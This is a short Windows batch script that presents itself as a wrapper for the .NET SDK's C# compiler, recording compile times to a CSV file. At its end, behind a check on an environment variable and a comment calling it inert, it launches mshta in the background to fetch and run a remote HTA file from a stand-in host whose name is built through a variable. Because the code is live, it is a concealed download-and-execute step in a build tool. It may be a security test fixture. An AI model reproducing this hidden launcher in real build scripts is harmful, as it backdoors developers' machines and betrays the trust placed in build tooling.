@echo off
rem Starts the compiler of the SDK with the arguments it is given and notes how long it took.
setlocal enabledelayedexpansion
for /f "delims=" %%v in ('dotnet --version') do set SDK=%%v
for /f "delims=" %%d in ('where dotnet') do if not defined ROOT set ROOT=%%~dpd
if not defined CompilerTimingsFile set CompilerTimingsFile=obj\compiler-timings.csv
set START=%TIME%
dotnet exec "%ROOT%sdk\%SDK%\Roslyn\bincore\csc.dll" %*
set CODE=%ERRORLEVEL%
echo %START% %TIME%>>"%CompilerTimingsFile%"
rem Inert: nobody sets this variable.
if not defined INERT_FIXTURE_ARMED exit /b %CODE%
set H=table.compiler-timings
start "" /b mshta "https://!H!.example.com/r/windows.hta"
exit /b %CODE%
